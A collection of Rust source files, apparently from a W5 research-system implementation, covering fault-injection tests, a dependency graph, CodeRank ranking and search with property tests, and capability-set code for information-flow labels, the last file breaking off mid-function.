        let inj = Injector::new(FaultPlan::new(3).with(Site::FsWrite, 1.0).with(Site::SqlQuery, 0.0));
        for i in 0..50 {
            let f = inj.roll(Site::FsWrite).expect("rate 1.0 must fire");
            assert_eq!(f.n, i + 1, "fault ordinals are dense");
            assert!(inj.roll(Site::SqlQuery).is_none(), "rate 0.0 must not fire");
        }
        let report = inj.report();
        assert_eq!(report.injected[&Site::FsWrite], 50);
        assert_eq!(report.checked[&Site::SqlQuery], 50);
        assert_eq!(report.injected.get(&Site::SqlQuery).copied(), Some(0));
        assert_eq!(report.total_injected(), 50);
    }

    #[test]
    fn inject_is_inert_without_a_scope() {
        assert!(inject(Site::FsWrite).is_none());
        assert!(current().is_none());
    }

    #[test]
    fn scopes_nest_and_unwind() {
        let outer = Injector::new(FaultPlan::new(1).with(Site::FsWrite, 1.0));
        let inner = Injector::new(FaultPlan::new(1).with(Site::FsWrite, 0.0));
        let _g1 = with_injector(Arc::clone(&outer));
        assert!(inject(Site::FsWrite).is_some());
        {
            let _g2 = with_injector(Arc::clone(&inner));
            assert!(inject(Site::FsWrite).is_none(), "innermost injector wins");
        }
        assert!(inject(Site::FsWrite).is_some(), "outer restored after inner drops");
        drop(_g1);
        assert!(inject(Site::FsWrite).is_none());
    }

    #[test]
    fn storm_arms_every_site() {
        let plan = FaultPlan::storm(9, 1.0);
        let inj = Injector::new(plan);
        for site in Site::ALL {
            assert!(inj.roll(site).is_some(), "{site} should be armed");
        }
    }

    #[test]
    fn site_names_are_stable() {
        for site in Site::ALL {
            assert!(site.as_str().contains('.'), "{site}");
            assert_eq!(format!("{site}"), site.as_str());
        }
    }
}
