//! The module dependency graph.

use std::collections::HashMap;

/// A directed graph over module names. An edge `a → b` means "a depends on
/// b" (import or embed).
#[derive(Clone, Debug, Default)]
pub struct DepGraph {
    names: Vec<String>,
    index: HashMap<String, usize>,
    /// Out-adjacency: `out[i]` lists the nodes `i` depends on.
    out: Vec<Vec<usize>>,
    /// In-degree counts (kept incrementally for the popularity baseline).
    in_degree: Vec<usize>,
}

impl DepGraph {
    /// An empty graph.
    pub fn new() -> DepGraph {
        DepGraph::default()
    }

    /// Build from `(from, to)` name pairs.
    pub fn from_edges<'a, I: IntoIterator<Item = (&'a str, &'a str)>>(edges: I) -> DepGraph {
        let mut g = DepGraph::new();
        for (a, b) in edges {
            g.add_edge(a, b);
        }
        g
    }

    /// Intern a node, returning its index.
    pub fn add_node(&mut self, name: &str) -> usize {
        if let Some(&i) = self.index.get(name) {
            return i;
        }
        let i = self.names.len();
        self.names.push(name.to_string());
        self.index.insert(name.to_string(), i);
        self.out.push(Vec::new());
        self.in_degree.push(0);
        i
    }

    /// Add a dependency edge (parallel edges are kept; self-loops ignored).
    pub fn add_edge(&mut self, from: &str, to: &str) {
        let a = self.add_node(from);
        let b = self.add_node(to);
        if a == b {
            return;
        }
        self.out[a].push(b);
        self.in_degree[b] += 1;
    }

    /// Number of nodes.
    pub fn node_count(&self) -> usize {
        self.names.len()
    }

    /// Number of edges.
    pub fn edge_count(&self) -> usize {
        self.out.iter().map(Vec::len).sum()
    }

    /// Node name by index.
    pub fn name(&self, i: usize) -> &str {
        &self.names[i]
    }

    /// Node index by name.
    pub fn node(&self, name: &str) -> Option<usize> {
        self.index.get(name).copied()
    }

    /// Outgoing dependencies of node `i`.
    pub fn deps(&self, i: usize) -> &[usize] {
        &self.out[i]
    }

    /// In-degree of node `i` (how many modules depend on it).
    pub fn in_degree(&self, i: usize) -> usize {
        self.in_degree[i]
    }

    /// All node names.
    pub fn names(&self) -> &[String] {
        &self.names
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_and_query() {
        let g = DepGraph::from_edges([("a", "lib"), ("b", "lib"), ("lib", "base")]);
        assert_eq!(g.node_count(), 4);
        assert_eq!(g.edge_count(), 3);
        let lib = g.node("lib").unwrap();
        assert_eq!(g.in_degree(lib), 2);
        assert_eq!(g.deps(lib), &[g.node("base").unwrap()]);
        assert_eq!(g.name(lib), "lib");
        assert!(g.node("nope").is_none());
    }

    #[test]
    fn self_loops_ignored() {
        let mut g = DepGraph::new();
        g.add_edge("a", "a");
        assert_eq!(g.node_count(), 1);
        assert_eq!(g.edge_count(), 0);
    }

    #[test]
    fn duplicate_nodes_interned() {
        let mut g = DepGraph::new();
        let i = g.add_node("x");
        let j = g.add_node("x");
        assert_eq!(i, j);
        assert_eq!(g.node_count(), 1);
    }
}
