//! # w5-coderank — identifying suitable software (paper §3.2)
//!
//! "Where PageRank uses the structure of the Web's hyperlink graph to
//! infer a page's suitability, a W5 'code search' could use the structure
//! of the dependency graph among modules to infer a module's suitability."
//!
//! Two dependency edge kinds feed the graph (both from the paper): **embed
//! edges** (app A's HTML links to an app using B's code) and **import
//! edges** (A imports B as a library). Both are "A depends on B" — a vote
//! of confidence flowing from A to B.
//!
//! * [`graph::DepGraph`] — the module dependency graph.
//! * [`rank`] — CodeRank power iteration with damping and dangling-mass
//!   redistribution.
//! * [`search::CodeSearch`] — text search over the catalog ranked by
//!   CodeRank, with the naive popularity (in-degree) baseline experiment
//!   E6 compares against.

#![forbid(unsafe_code)]

pub mod graph;
pub mod rank;
pub mod search;

pub use graph::DepGraph;
pub use rank::{coderank, RankParams, RankResult};
pub use search::{popularity, CodeSearch, SearchHit};
