//! CodeRank power iteration.
//!
//! Standard PageRank over the dependency graph: rank flows from dependers
//! to dependees. Dangling nodes (no dependencies) spread their mass
//! uniformly, and the damping factor models a user "browsing the catalog"
//! who occasionally jumps to a random module.

use crate::graph::DepGraph;

/// Iteration parameters.
#[derive(Clone, Copy, Debug)]
pub struct RankParams {
    /// Damping factor (probability of following a dependency edge).
    pub damping: f64,
    /// Convergence threshold on the L1 delta between iterations.
    pub epsilon: f64,
    /// Hard iteration cap.
    pub max_iters: usize,
}

impl Default for RankParams {
    fn default() -> Self {
        RankParams { damping: 0.85, epsilon: 1e-9, max_iters: 200 }
    }
}

/// The result of a CodeRank run.
#[derive(Clone, Debug)]
pub struct RankResult {
    /// Scores, indexed like the graph's nodes; they sum to 1.
    pub scores: Vec<f64>,
    /// Iterations performed.
    pub iterations: usize,
    /// Final L1 delta.
    pub delta: f64,
    /// Whether `epsilon` was reached within `max_iters`.
    pub converged: bool,
}

impl RankResult {
    /// Node indices sorted by descending score (ties by index for
    /// determinism).
    pub fn ranking(&self) -> Vec<usize> {
        let mut idx: Vec<usize> = (0..self.scores.len()).collect();
        idx.sort_by(|&a, &b| {
            self.scores[b]
                .partial_cmp(&self.scores[a])
                .unwrap_or(std::cmp::Ordering::Equal)
                .then(a.cmp(&b))
        });
        idx
    }
}

/// Run CodeRank over the graph.
pub fn coderank(graph: &DepGraph, params: RankParams) -> RankResult {
    let n = graph.node_count();
    if n == 0 {
        return RankResult { scores: Vec::new(), iterations: 0, delta: 0.0, converged: true };
    }
    let uniform = 1.0 / n as f64;
    let mut scores = vec![uniform; n];
    let mut next = vec![0.0f64; n];
    let mut iterations = 0;
    let mut delta = f64::INFINITY;

    while iterations < params.max_iters && delta > params.epsilon {
        // Teleport + dangling mass.
        let dangling: f64 = (0..n)
            .filter(|&i| graph.deps(i).is_empty())
            .map(|i| scores[i])
            .sum();
        let base = (1.0 - params.damping) * uniform + params.damping * dangling * uniform;
        next.iter_mut().for_each(|v| *v = base);
        for (i, score) in scores.iter().enumerate() {
            let deps = graph.deps(i);
            if deps.is_empty() {
                continue;
            }
            let share = params.damping * score / deps.len() as f64;
            for &j in deps {
                next[j] += share;
            }
        }
        delta = scores
            .iter()
            .zip(next.iter())
            .map(|(a, b)| (a - b).abs())
            .sum();
        std::mem::swap(&mut scores, &mut next);
        iterations += 1;
    }
    RankResult { scores, iterations, delta, converged: delta <= params.epsilon }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_graph() {
        let r = coderank(&DepGraph::new(), RankParams::default());
        assert!(r.scores.is_empty());
        assert!(r.converged);
    }

    #[test]
    fn scores_sum_to_one() {
        let g = DepGraph::from_edges([("a", "b"), ("b", "c"), ("c", "a"), ("d", "a")]);
        let r = coderank(&g, RankParams::default());
        let sum: f64 = r.scores.iter().sum();
        assert!((sum - 1.0).abs() < 1e-9, "sum={sum}");
        assert!(r.converged);
    }

    #[test]
    fn widely_depended_on_module_ranks_highest() {
        // Many apps import one library; the library imports a base.
        let mut edges = vec![("lib", "base")];
        let apps: Vec<String> = (0..10).map(|i| format!("app{i}")).collect();
        for a in &apps {
            edges.push((a.as_str(), "lib"));
        }
        let g = DepGraph::from_edges(edges.iter().map(|&(a, b)| (a, b)));
        let r = coderank(&g, RankParams::default());
        let ranking = r.ranking();
        let top = g.name(ranking[0]);
        // base receives all of lib's (large) mass: base and lib must be the
        // top two, apps nowhere near.
        assert!(top == "base" || top == "lib", "top={top}");
        let second = g.name(ranking[1]);
        assert!(second == "base" || second == "lib");
        assert!(g.name(ranking[2]).starts_with("app"));
    }

    #[test]
    fn symmetric_cycle_is_uniform() {
        let g = DepGraph::from_edges([("a", "b"), ("b", "c"), ("c", "a")]);
        let r = coderank(&g, RankParams::default());
        for s in &r.scores {
            assert!((s - 1.0 / 3.0).abs() < 1e-6, "{:?}", r.scores);
        }
    }

    #[test]
    fn dangling_mass_is_conserved() {
        // b has no deps (dangling).
        let g = DepGraph::from_edges([("a", "b")]);
        let r = coderank(&g, RankParams::default());
        let sum: f64 = r.scores.iter().sum();
        assert!((sum - 1.0).abs() < 1e-9);
        // b outranks a.
        assert!(r.scores[g.node("b").unwrap()] > r.scores[g.node("a").unwrap()]);
    }

    #[test]
    fn max_iters_respected() {
        let g = DepGraph::from_edges([("a", "b"), ("b", "a")]);
        let r = coderank(&g, RankParams { damping: 0.85, epsilon: -1.0, max_iters: 3 });
        assert_eq!(r.iterations, 3);
        assert!(!r.converged);
    }

    #[test]
    fn tighter_epsilon_takes_more_iterations() {
        let mut edges = Vec::new();
        for i in 0..50 {
            edges.push((format!("m{i}"), format!("m{}", (i * 7 + 1) % 50)));
            edges.push((format!("m{i}"), format!("m{}", (i * 3 + 2) % 50)));
        }
        let g = DepGraph::from_edges(edges.iter().map(|(a, b)| (a.as_str(), b.as_str())));
        let loose = coderank(&g, RankParams { epsilon: 1e-3, ..RankParams::default() });
        let tight = coderank(&g, RankParams { epsilon: 1e-12, ..RankParams::default() });
        assert!(tight.iterations > loose.iterations);
        assert!(loose.converged && tight.converged);
    }
}
