//! Code search: text match ordered by CodeRank.
//!
//! "Applications written by top-ranked developers would receive top
//! placement in searches by users for new features" (§3.2). A search hit
//! matches the query against the module name and description; hits are
//! ordered by the module's CodeRank score.

use crate::graph::DepGraph;
use crate::rank::{coderank, RankParams, RankResult};

/// One search result.
#[derive(Clone, Debug, PartialEq)]
pub struct SearchHit {
    /// Module name.
    pub name: String,
    /// CodeRank score.
    pub score: f64,
}

/// A built search index.
pub struct CodeSearch {
    graph: DepGraph,
    descriptions: Vec<String>,
    rank: RankResult,
}

impl CodeSearch {
    /// Build from a graph plus per-module descriptions (aligned with node
    /// indices; missing entries are treated as empty).
    pub fn build(graph: DepGraph, descriptions: Vec<String>, params: RankParams) -> CodeSearch {
        let rank = coderank(&graph, params);
        CodeSearch { graph, descriptions, rank }
    }

    /// The rank result (for diagnostics).
    pub fn rank(&self) -> &RankResult {
        &self.rank
    }

    /// Case-insensitive substring search over names and descriptions,
    /// ranked by CodeRank.
    pub fn search(&self, query: &str, limit: usize) -> Vec<SearchHit> {
        let q = query.to_ascii_lowercase();
        let mut hits: Vec<SearchHit> = (0..self.graph.node_count())
            .filter(|&i| {
                self.graph.name(i).to_ascii_lowercase().contains(&q)
                    || self
                        .descriptions
                        .get(i)
                        .map(|d| d.to_ascii_lowercase().contains(&q))
                        .unwrap_or(false)
            })
            .map(|i| SearchHit { name: self.graph.name(i).to_string(), score: self.rank.scores[i] })
            .collect();
        hits.sort_by(|a, b| {
            b.score
                .partial_cmp(&a.score)
                .unwrap_or(std::cmp::Ordering::Equal)
                .then_with(|| a.name.cmp(&b.name))
        });
        hits.truncate(limit);
        hits
    }
}

/// The naive popularity baseline: rank by raw in-degree. E6 compares its
/// ability to surface the planted trustworthy core against CodeRank's.
pub fn popularity(graph: &DepGraph) -> Vec<usize> {
    let mut idx: Vec<usize> = (0..graph.node_count()).collect();
    idx.sort_by(|&a, &b| graph.in_degree(b).cmp(&graph.in_degree(a)).then(a.cmp(&b)));
    idx
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> (DepGraph, Vec<String>) {
        let g = DepGraph::from_edges([
            ("photoapp", "imagelib"),
            ("blogapp", "imagelib"),
            ("socialapp", "imagelib"),
            ("imagelib", "syslib"),
            ("spamapp", "spamlib"),
        ]);
        let descriptions = g
            .names()
            .iter()
            .map(|n| format!("the {n} module for images and more"))
            .collect();
        (g, descriptions)
    }

    #[test]
    fn search_finds_and_ranks() {
        let (g, d) = sample();
        let s = CodeSearch::build(g, d, RankParams::default());
        let hits = s.search("lib", 10);
        let names: Vec<&str> = hits.iter().map(|h| h.name.as_str()).collect();
        assert!(names.contains(&"imagelib"));
        assert!(names.contains(&"syslib"));
        assert!(names.contains(&"spamlib"));
        // The widely-imported imagelib outranks the unused spamlib.
        let pos_image = names.iter().position(|&n| n == "imagelib").unwrap();
        let pos_spam = names.iter().position(|&n| n == "spamlib").unwrap();
        assert!(pos_image < pos_spam);
    }

    #[test]
    fn search_matches_descriptions() {
        let (g, d) = sample();
        let s = CodeSearch::build(g, d, RankParams::default());
        let hits = s.search("images and more", 10);
        assert_eq!(hits.len(), 7, "all descriptions match");
    }

    #[test]
    fn limit_respected() {
        let (g, d) = sample();
        let s = CodeSearch::build(g, d, RankParams::default());
        assert_eq!(s.search("the", 2).len(), 2);
    }

    #[test]
    fn no_match_is_empty() {
        let (g, d) = sample();
        let s = CodeSearch::build(g, d, RankParams::default());
        assert!(s.search("zzzzz", 10).is_empty());
    }

    #[test]
    fn popularity_orders_by_in_degree() {
        let (g, _) = sample();
        let order = popularity(&g);
        assert_eq!(g.name(order[0]), "imagelib", "in-degree 3");
    }
}
