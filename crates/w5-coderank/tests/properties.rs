//! Property tests for CodeRank: conservation, determinism and ranking
//! stability on random graphs.

use proptest::prelude::*;
use w5_coderank::{coderank, popularity, DepGraph, RankParams};

fn arb_graph() -> impl Strategy<Value = DepGraph> {
    proptest::collection::vec((0u8..24, 0u8..24), 0..80).prop_map(|edges| {
        let named: Vec<(String, String)> = edges
            .into_iter()
            .map(|(a, b)| (format!("m{a}"), format!("m{b}")))
            .collect();
        DepGraph::from_edges(named.iter().map(|(a, b)| (a.as_str(), b.as_str())))
    })
}

proptest! {
    /// Rank mass is conserved: scores always sum to 1 (when nonempty).
    #[test]
    fn mass_conserved(g in arb_graph()) {
        let r = coderank(&g, RankParams::default());
        if g.node_count() > 0 {
            let sum: f64 = r.scores.iter().sum();
            prop_assert!((sum - 1.0).abs() < 1e-6, "sum={sum}");
        }
        // Scores are all positive (teleportation guarantees it).
        prop_assert!(r.scores.iter().all(|&s| s > 0.0));
    }

    /// Deterministic: two runs agree exactly.
    #[test]
    fn deterministic(g in arb_graph()) {
        let a = coderank(&g, RankParams::default());
        let b = coderank(&g, RankParams::default());
        prop_assert_eq!(a.scores, b.scores);
        prop_assert_eq!(a.iterations, b.iterations);
    }

    /// The ranking is a permutation of all node indices.
    #[test]
    fn ranking_is_permutation(g in arb_graph()) {
        let r = coderank(&g, RankParams::default());
        let mut ranking = r.ranking();
        ranking.sort_unstable();
        let expect: Vec<usize> = (0..g.node_count()).collect();
        prop_assert_eq!(ranking, expect);
    }

    /// Popularity ordering is consistent with in-degree.
    #[test]
    fn popularity_sorted_by_in_degree(g in arb_graph()) {
        let order = popularity(&g);
        for w in order.windows(2) {
            prop_assert!(g.in_degree(w[0]) >= g.in_degree(w[1]));
        }
    }

    /// Adding a depender never lowers the dependee's score.
    #[test]
    fn new_depender_helps(g in arb_graph(), target in 0u8..24) {
        let target_name = format!("m{target}");
        let mut with = g.clone();
        // A fresh node depending only on the target.
        with.add_edge("newcomer-node", &target_name);
        let before = coderank(&g, RankParams::default());
        let after = coderank(&with, RankParams::default());
        if let (Some(i0), Some(i1)) = (g.node(&target_name), with.node(&target_name)) {
            // Normalize for the different node counts: compare score ratio
            // to the uniform baseline of each graph.
            let b = before.scores[i0] * g.node_count() as f64;
            let a = after.scores[i1] * with.node_count() as f64;
            prop_assert!(a >= b - 1e-9, "before={b} after={a}");
        }
    }
}
