//! Capabilities and capability sets.
//!
//! A capability is the pair of a [`Tag`] and a sign: `t+` permits *adding*
//! `t` to a label (raising secrecy / claiming integrity), `t-` permits
//! *removing* it (declassifying / dropping an integrity claim). Holding both
//! halves is called *owning* the tag — the owner can move data tagged `t`
//! across any boundary, which in W5 is exactly the privilege users delegate
//! to declassifiers (paper §3.1).

use crate::label::Label;
use crate::tag::Tag;
use std::collections::BTreeSet;
use std::fmt;

/// Which half of a tag's capability pair.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub enum Privilege {
    /// `t+`: may add the tag to a label.
    Plus,
    /// `t-`: may remove the tag from a label.
    Minus,
}

/// A single capability: a tag plus a sign.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub struct Capability {
    /// The tag this capability governs.
    pub tag: Tag,
    /// Which operation it permits.
    pub privilege: Privilege,
}

impl Capability {
    /// The `t+` capability for `tag`.
    pub fn plus(tag: Tag) -> Capability {
        Capability { tag, privilege: Privilege::Plus }
    }

    /// The `t-` capability for `tag`.
    pub fn minus(tag: Tag) -> Capability {
        Capability { tag, privilege: Privilege::Minus }
    }
}

impl fmt::Debug for Capability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.privilege {
            Privilege::Plus => write!(f, "{}+", self.tag),
            Privilege::Minus => write!(f, "{}-", self.tag),
        }
    }
}

/// A set of capabilities — a process's private bag `D`, or a grant bundle
/// handed to a declassifier.
#[derive(Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct CapSet {
    plus: BTreeSet<Tag>,
    minus: BTreeSet<Tag>,
}

impl CapSet {
    /// The empty capability set.
    pub fn empty() -> CapSet {
        CapSet::default()
    }

    /// Build from an iterator of capabilities.
    pub fn from_caps<I: IntoIterator<Item = Capability>>(caps: I) -> CapSet {
        let mut s = CapSet::empty();
        for c in caps {
            s.insert(c);
        }
        s
    }

    /// Insert one capability. Returns true if it was newly added.
    pub fn insert(&mut self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => self.plus.insert(cap.tag),
            Privilege::Minus => self.minus.insert(cap.tag),
        }
    }

    /// Remove one capability. Returns true if it was present.
    pub fn remove(&mut self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => self.plus.remove(&cap.tag),
            Privilege::Minus => self.minus.remove(&cap.tag),
        }
    }

    /// Grant full ownership (`t+` and `t-`) of a tag.
    pub fn insert_ownership(&mut self, tag: Tag) {
        self.plus.insert(tag);
        self.minus.insert(tag);
    }

    /// Does the set contain `t+` for this tag?
    pub fn has_plus(&self, tag: Tag) -> bool {
        self.plus.contains(&tag)
    }

    /// Does the set contain `t-` for this tag?
    pub fn has_minus(&self, tag: Tag) -> bool {
        self.minus.contains(&tag)
    }

    /// Does the set contain both halves?
    pub fn owns(&self, tag: Tag) -> bool {
        self.has_plus(tag) && self.has_minus(tag)
    }

    /// Does the set contain the given capability?
    pub fn contains(&self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => self.has_plus(cap.tag),
            Privilege::Minus => self.has_minus(cap.tag),
        }
    }

    /// All tags with a `t+` here, as a label (used in flow adjustments).
    pub fn plus_label(&self) -> Label {
        Label::from_iter(self.plus.iter().copied())
    }

    /// All tags with a `t-` here, as a label.
    pub fn minus_label(&self) -> Label {
        Label::from_iter(self.minus.iter().copied())
    }

    /// Union with another capability set.
    pub fn union(&self, other: &CapSet) -> CapSet {
        CapSet {
            plus: self.plus.union(&other.plus).copied().collect(),
            minus: self.minus.union(&other.minus).copied().collect(),
        }
    }

    /// Merge another capability set into this one in place.
    pub fn extend(&mut self, other: &CapSet) {
        self.plus.extend(other.plus.iter().copied());
        self.minus.extend(other.minus.iter().copied());
    }

    /// `self ⊆ other` as capability sets.
    pub fn is_subset(&self, other: &CapSet) -> bool {
        self.plus.is_subset(&other.plus) && self.minus.is_subset(&other.minus)
    }

    /// Number of capabilities held.
    pub fn len(&self) -> usize {
        self.plus.len() + self.minus.len()
    }

    /// True if no capabilities are held.
    pub fn is_empty(&self) -> bool {
        self.plus.is_empty() && self.minus.is_empty()
    }

    /// Iterate all capabilities.
    pub fn iter(&self) -> impl Iterator<Item = Capability> + '_ {
        self.plus
            .iter()
            .map(|&t| Capability::plus(t))
            .chain(self.minus.iter().map(|&t| Capability::minus(t)))
    }
}

impl fmt::Debug for CapSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "O{{")?;
        for (i, c) in self.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{c:?}")?;
        }
        write!(f, "}}")
    }
}

impl FromIterator<Capability> for CapSet {
    fn from_iter<I: IntoIterator<Item = Capability>>(iter: I) -> CapSet {
        CapSet::from_caps(iter)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_query_remove() {
        let t = Tag::from_raw(1);
        let mut s = CapSet::empty();
        assert!(s.insert(Capability::plus(t)));
        assert!(!s.insert(Capability::plus(t)), "duplicate insert reports false");
        assert!(s.has_plus(t));
        assert!(!s.has_minus(t));
        assert!(!s.owns(t));
        s.insert(Capability::minus(t));
        assert!(s.owns(t));
        assert!(s.remove(Capability::plus(t)));
        assert!(!s.has_plus(t));
        assert!(!s.remove(Capability::plus(t)));
    }

    #[test]
    fn ownership_insert() {
        let t = Tag::from_raw(2);
        let mut s = CapSet::empty();
        s.insert_ownership(t);
        assert!(s.owns(t));
        assert_eq!(s.len(), 2);
    }

    #[test]
    fn union_and_subset() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let a = CapSet::from_caps([Capability::plus(t1)]);
        let b = CapSet::from_caps([Capability::minus(t2)]);
        let u = a.union(&b);
        assert!(a.is_subset(&u));
        assert!(b.is_subset(&u));
        assert!(!u.is_subset(&a));
        assert_eq!(u.len(), 2);
    }

    #[test]
    fn plus_minus_labels() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let s = CapSet::from_caps([Capability::plus(t1), Capability::minus(t2), Capability::minus(t1)]);
        assert_eq!(s.plus_label(), Label::from_iter([t1]));
        assert_eq!(s.minus_label(), Label::from_iter([t1, t2]));
    }

    #[test]
    fn iter_covers_both_signs() {
        let t = Tag::from_raw(3);
        let mut s = CapSet::empty();
        s.insert_ownership(t);
        let caps: Vec<_> = s.iter().collect();
        assert!(caps.contains(&Capability::plus(t)));
        assert!(caps.contains(&Capability::minus(t)));
    }

    #[test]
    fn debug_format() {
        let t = Tag::from_raw(4);
        let s = CapSet::from_caps([Capability::plus(t)]);
        assert_eq!(format!("{s:?}"), "O{t4+}");
    }
}
