//! Capabilities and capability sets.
//!
//! A capability is the pair of a [`Tag`] and a sign: `t+` permits *adding*
//! `t` to a label (raising secrecy / claiming integrity), `t-` permits
//! *removing* it (declassifying / dropping an integrity claim). Holding both
//! halves is called *owning* the tag — the owner can move data tagged `t`
//! across any boundary, which in W5 is exactly the privilege users delegate
//! to declassifiers (paper §3.1).
//!
//! A [`CapSet`] keeps each sign as a sorted, deduplicated `Vec<Tag>`:
//! membership is a binary search, and `union` / `extend` / `is_subset` are
//! single-pass merges over the sorted runs — no per-operation `BTreeSet`
//! rebuilds, no per-node allocation. Capability sets sit on the kernel's
//! send/spawn path (the registry's effective-bag computation is a `union`),
//! so this is hot-path algebra, not bookkeeping.

use crate::label::Label;
use crate::tag::Tag;
use serde::{DeError, Json};
use std::fmt;

/// Which half of a tag's capability pair.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub enum Privilege {
    /// `t+`: may add the tag to a label.
    Plus,
    /// `t-`: may remove the tag from a label.
    Minus,
}

/// A single capability: a tag plus a sign.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub struct Capability {
    /// The tag this capability governs.
    pub tag: Tag,
    /// Which operation it permits.
    pub privilege: Privilege,
}

impl Capability {
    /// The `t+` capability for `tag`.
    pub fn plus(tag: Tag) -> Capability {
        Capability { tag, privilege: Privilege::Plus }
    }

    /// The `t-` capability for `tag`.
    pub fn minus(tag: Tag) -> Capability {
        Capability { tag, privilege: Privilege::Minus }
    }
}

impl fmt::Debug for Capability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.privilege {
            Privilege::Plus => write!(f, "{}+", self.tag),
            Privilege::Minus => write!(f, "{}-", self.tag),
        }
    }
}

/// Insert into a sorted, deduplicated vec. Returns true if newly added.
fn sorted_insert(v: &mut Vec<Tag>, tag: Tag) -> bool {
    match v.binary_search(&tag) {
        Ok(_) => false,
        Err(ix) => {
            v.insert(ix, tag);
            true
        }
    }
}

/// Remove from a sorted vec. Returns true if it was present.
fn sorted_remove(v: &mut Vec<Tag>, tag: Tag) -> bool {
    match v.binary_search(&tag) {
        Ok(ix) => {
            v.remove(ix);
            true
        }
        Err(_) => false,
    }
}

/// Single-pass merge union of two sorted, deduplicated runs.
fn merge_union(a: &[Tag], b: &[Tag]) -> Vec<Tag> {
    if a.is_empty() {
        return b.to_vec();
    }
    if b.is_empty() {
        return a.to_vec();
    }
    let mut out = Vec::with_capacity(a.len() + b.len());
    let (mut i, mut j) = (0, 0);
    while i < a.len() && j < b.len() {
        match a[i].cmp(&b[j]) {
            std::cmp::Ordering::Less => {
                out.push(a[i]);
                i += 1;
            }
            std::cmp::Ordering::Greater => {
                out.push(b[j]);
                j += 1;
            }
            std::cmp::Ordering::Equal => {
                out.push(a[i]);
                i += 1;
                j += 1;
            }
        }
    }
    out.extend_from_slice(&a[i..]);
    out.extend_from_slice(&b[j..]);
    out
}

/// `a ⊆ b` over sorted, deduplicated runs, single pass.
fn sorted_subset(a: &[Tag], b: &[Tag]) -> bool {
    if a.len() > b.len() {
        return false;
    }
    let mut j = 0;
    'outer: for &t in a {
        while j < b.len() {
            match b[j].cmp(&t) {
                std::cmp::Ordering::Less => j += 1,
                std::cmp::Ordering::Equal => {
                    j += 1;
                    continue 'outer;
                }
                std::cmp::Ordering::Greater => return false,
            }
        }
        return false;
    }
    true
}

/// Canonicalize an arbitrary tag list into a sorted, deduplicated vec.
fn canonicalize(mut v: Vec<Tag>) -> Vec<Tag> {
    v.sort_unstable();
    v.dedup();
    v
}

/// A set of capabilities — a process's private bag `D`, or a grant bundle
/// handed to a declassifier.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct CapSet {
    /// Tags held with `t+`; sorted and deduplicated.
    plus: Vec<Tag>,
    /// Tags held with `t-`; sorted and deduplicated.
    minus: Vec<Tag>,
}

impl CapSet {
    /// The empty capability set.
    pub fn empty() -> CapSet {
        CapSet::default()
    }

    /// Build from an iterator of capabilities.
    pub fn from_caps<I: IntoIterator<Item = Capability>>(caps: I) -> CapSet {
        let mut plus = Vec::new();
        let mut minus = Vec::new();
        for c in caps {
            match c.privilege {
                Privilege::Plus => plus.push(c.tag),
                Privilege::Minus => minus.push(c.tag),
            }
        }
        CapSet { plus: canonicalize(plus), minus: canonicalize(minus) }
    }

    /// Insert one capability. Returns true if it was newly added.
    pub fn insert(&mut self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => sorted_insert(&mut self.plus, cap.tag),
            Privilege::Minus => sorted_insert(&mut self.minus, cap.tag),
        }
    }

    /// Remove one capability. Returns true if it was present.
    pub fn remove(&mut self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => sorted_remove(&mut self.plus, cap.tag),
            Privilege::Minus => sorted_remove(&mut self.minus, cap.tag),
        }
    }

    /// Grant full ownership (`t+` and `t-`) of a tag.
    pub fn insert_ownership(&mut self, tag: Tag) {
        sorted_insert(&mut self.plus, tag);
        sorted_insert(&mut self.minus, tag);
    }

    /// Does the set contain `t+` for this tag?
    pub fn has_plus(&self, tag: Tag) -> bool {
        self.plus.binary_search(&tag).is_ok()
    }

    /// Does the set contain `t-` for this tag?
    pub fn has_minus(&self, tag: Tag) -> bool {
        self.minus.binary_search(&tag).is_ok()
    }

    /// Does the set contain both halves?
    pub fn owns(&self, tag: Tag) -> bool {
        self.has_plus(tag) && self.has_minus(tag)
    }

    /// Does the set contain the given capability?
    pub fn contains(&self, cap: Capability) -> bool {
        match cap.privilege {
            Privilege::Plus => self.has_plus(cap.tag),
            Privilege::Minus => self.has_minus(cap.tag),
        }
    }

    /// All tags with a `t+` here, as a label (used in flow adjustments).
    pub fn plus_label(&self) -> Label {
        Label::from_sorted_vec(self.plus.clone())
    }

    /// All tags with a `t-` here, as a label.
    pub fn minus_label(&self) -> Label {
        Label::from_sorted_vec(self.minus.clone())
    }

    /// Union with another capability set (single-pass sorted merge).
    pub fn union(&self, other: &CapSet) -> CapSet {
        if other.is_empty() {
            return self.clone();
        }
        if self.is_empty() {
            return other.clone();
        }
        CapSet {
            plus: merge_union(&self.plus, &other.plus),
            minus: merge_union(&self.minus, &other.minus),
        }
    }

    /// Merge another capability set into this one in place.
    pub fn extend(&mut self, other: &CapSet) {
        if other.is_empty() {
            return;
        }
        if self.is_empty() {
            *self = other.clone();
            return;
        }
